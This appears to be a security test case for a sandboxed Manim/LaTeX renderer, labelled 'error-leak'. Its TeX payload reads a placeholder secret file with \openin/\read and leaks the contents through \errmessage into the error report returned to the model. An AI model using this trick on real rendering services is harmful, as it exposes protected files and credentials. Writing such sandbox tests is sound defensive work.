# ruff: noqa
# class: error-leak
# tries: read the secret file with TeX's \openin/\read and stop LaTeX with \errmessage{<secret>}: the
#   "!" line lands in the error report sent to the model.
from manim import *

BODY = r"""
\newread\secretfile
\immediate\openin\secretfile=__SECRET_FILE__
\immediate\read\secretfile to\secretline
\errmessage{\detokenize\expandafter{\secretline}}
"""


class Escape(Scene):
    def construct(self):
        self.play(FadeIn(Tex(BODY)), run_time=0.2)
